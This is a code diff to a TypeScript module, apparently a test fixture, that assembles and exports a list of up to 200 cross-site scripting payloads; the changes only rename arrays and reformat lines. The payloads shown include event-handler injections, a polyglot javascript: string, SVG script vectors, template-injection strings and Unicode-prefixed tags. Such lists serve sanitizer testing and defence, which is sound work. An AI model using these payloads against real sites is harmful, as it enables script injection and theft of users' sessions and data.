@@ -36,17 +36,9 @@ const events = [
   'oncontentvisibilityautostatechange',
   'onmessage',
 ] as const
-const carriers = [
-  'img src=x',
-  'svg',
-  'video src=x autoplay',
-  'details open',
-  'input autofocus',
-  'marquee',
-  'body',
-] as const
+const tags = ['img src=x', 'svg', 'video src=x autoplay', 'details open', 'input autofocus', 'marquee', 'body'] as const
 
-const handlers = events.map((event, at) => `<${carriers[at % carriers.length]!} ${event}="${RUN}">`)
+const handlers = events.map((event, at) => `<${tags[at % tags.length]!} ${event}="${RUN}">`)
 
 const polyglots = [
   `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
@@ -96,7 +88,7 @@ const elements = [
   `<audio src=x onerror=${RUN}></audio>`,
 ]
 
-const vectors = [
+const svgAndMath = [
   `<svg><script>${RUN}</script></svg>`,
   `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
   `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
@@ -152,7 +144,7 @@ const links = [
   `<a target=_blank href="data:text/html,<script>opener.stolen=1</script>">x</a>`,
 ]
 
-const braces = [
+const templateSyntax = [
   `{{constructor.constructor("${RUN}")()}}`,
   `{{$on.constructor("${RUN}")()}}`,
   `\${${RUN}}`,
@@ -188,7 +180,7 @@ const styles = [
   `<p style="position:fixed;inset:0" onpointerenter="${RUN}">x</p>`,
 ]
 
-const tricks = [
+const encodings = [
   `\u202e<script>${RUN}</script>`,
   `\u200b<img src=x onerror=${RUN}>`,
   `\ufeff<script>${RUN}</script>`,
@@ -233,6 +225,16 @@ const tricks = [
 
 const long = Array.from({ length: 8 }, (_, at) => `${'x '.repeat(300 * (at + 1))}<img src=x onerror=${RUN}>`)
 
-const all = [...elements, ...handlers, ...polyglots, ...vectors, ...links, ...braces, ...styles, ...tricks, ...long]
+const all = [
+  ...elements,
+  ...handlers,
+  ...polyglots,
+  ...svgAndMath,
+  ...links,
+  ...templateSyntax,
+  ...styles,
+  ...encodings,
+  ...long,
+]
 
 export const scriptPayloads: readonly string[] = all.slice(0, 200)
